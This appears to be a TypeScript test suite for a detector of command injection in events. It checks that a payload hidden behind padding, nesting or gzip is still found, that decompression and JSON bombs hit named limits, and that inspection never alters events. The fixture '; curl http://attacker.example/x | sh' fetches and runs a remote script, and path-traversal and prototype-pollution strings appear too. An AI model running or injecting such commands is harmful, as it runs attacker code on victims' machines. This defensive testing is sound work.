import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { inspect } from 'node:util';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { inspectEvent } from './inspect.ts';

const attack = '; curl http://attacker.example/x | sh';
/** Text of about so many units, which does not repeat itself: what repeats is suspect of itself. */
const padding = (units: number): string => Array.from({ length: units / 7 }, (_, i) => (i * 7919) % 1_000_003).join(' ');
const base64 = (data: string | Buffer): string => Buffer.from(data).toString('base64');
const nested = (depth: number, inner: unknown): unknown => (depth === 0 ? inner : [nested(depth - 1, inner)]);

// Wherever an attacker puts the payload, it is found, or the answer says which bound it lies behind.
const hidden: readonly { readonly name: string; readonly event: unknown; readonly incomplete?: string }[] = [
  { name: '128 KB of letters in front', event: { v: 'x'.repeat(128 * 1024) + attack } },
  { name: '128 KB of prose in front', event: { v: `${padding(128 * 1024)}\n${attack}` } },
  { name: '128 KB in other members in front', event: { a: padding(128 * 1024), b: attack } },
  {
    name: '128 KB in front in JSON in gzip',
    event: {
      v: base64(gzipSync(JSON.stringify({ a: padding(128 * 1024), b: attack }))),
    },
  },
  { name: '10,000 items in front', event: { v: [...Array.from({ length: 10_000 }, (_, i) => `item ${i}`), attack] } },
  {
    name: '10,000 members in front',
    event: { ...Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`k${i}`, 'a b'])), last: attack },
  },
  {
    name: '10,000 items in JSON in front',
    event: { body: JSON.stringify([...Array.from({ length: 10_000 }, (_, i) => ({ id: i })), attack]) },
  },
  { name: 'depth 60', event: nested(60, attack) },
  { name: 'depth 64', event: nested(64, attack) },
  { name: 'depth 65', event: nested(65, attack), incomplete: 'depth' },
  { name: 'depth 60 in JSON', event: { body: JSON.stringify(nested(60, attack)) } },
  { name: 'depth 64 in JSON', event: { body: JSON.stringify(nested(64, attack)) }, incomplete: 'depth' },
  { name: 'a member that a parser drops', event: { body: `{"a":${JSON.stringify(attack)},"a":1}` } },
  { name: 'at the end of 6 MB', event: { body: JSON.stringify({ a: padding(6_000_000), b: attack }) } },
];
describe('a payload is found or said to be out of bounds', () => {
  for (const { name, event, incomplete } of hidden)
    test(name, () => {
      const inspection = inspectEvent(event);
      assert.equal(inspection.incomplete, incomplete);
      if (incomplete === undefined) assert.ok(inspection.detections.some(({ class: name }) => name === 'cmdi'));
    });
});

const bombs: readonly { readonly name: string; readonly event: unknown; readonly incomplete: string }[] = [
  { name: 'gzip', event: { v: base64(gzipSync(Buffer.alloc(5_000_000, 'a'))) }, incomplete: 'ratio' },
  { name: 'gzip in gzip', event: { v: base64(gzipSync(gzipSync(Buffer.alloc(5_000_000, 'a')))) }, incomplete: 'ratio' },
  { name: 'JSON of a depth of 300,000', event: { v: '['.repeat(300_000) + ']'.repeat(300_000) }, incomplete: 'depth' },
  { name: 'JSON of a million items', event: { v: `[${'0,'.repeat(1_000_000)}0]` }, incomplete: '' },
  { name: 'JSON of 250,000 texts', event: { v: `[${'"a b",'.repeat(250_000)}"a b"]` }, incomplete: 'values' },
  {
    name: 'names of 10 MB',
    event: Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`${'k;'.repeat(50)}${i}`, 1])),
    incomplete: '',
  },
  { name: 'a name of 20 MB', event: { ['a b '.repeat(5_000_000)]: 1 }, incomplete: 'size' },
  { name: 'one name a thousand times', event: { v: `{${'"a":"x y",'.repeat(1000)}"a":1}` }, incomplete: 'values' },
];
describe('bombs end with the bound named', () => {
  for (const { name, event, incomplete } of bombs)
    test(name, () => {
      assert.equal(inspectEvent(event).incomplete ?? '', incomplete);
    });
});

test('no event is changed, whatever it is made of', () => {
  const leaf = fc.oneof(
    fc.string(),
    fc.constantFrom(attack, '%2e%2e%2f', 'eyJhIjoxfQ==', 'a=b&c=d', '{"a":{"__proto__":1}}'),
    fc.bigInt(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.constant(undefined),
    fc.date(),
    fc.uint8Array({ maxLength: 20 }),
    fc.string().map((text) => Buffer.from(text)),
    fc.constant(Symbol('s')),
    fc.string().map((text) => Object(text)),
    fc.string().map((text) => new Map([[text, new Set([text])]])),
    fc.constant(() => 1),
    fc.constant(/x/g),
    fc.constant(new Proxy({ a: attack }, {})),
    fc.constant(Object.defineProperty({}, 'g', { enumerable: true, get: () => attack })),
    // biome-ignore lint/suspicious/noSparseArray: holes are what is tested
    fc.constant([, 'x', , attack]),
  );
  const { tree } = fc.letrec((tie) => ({
    tree: fc.oneof({ maxDepth: 4 }, leaf, fc.array(tie('tree'), { maxLength: 4 }), fc.dictionary(fc.string(), tie('tree'), { maxKeys: 4 })),
  }));
  const shown = (event: unknown): string => inspect(event, { depth: null, showHidden: true, maxArrayLength: null });
  fc.assert(
    fc.property(tree, (event) => {
      const before = shown(event);
      inspectEvent(event);
      assert.equal(shown(event), before);
    }),
    { numRuns: 300 },
  );
});
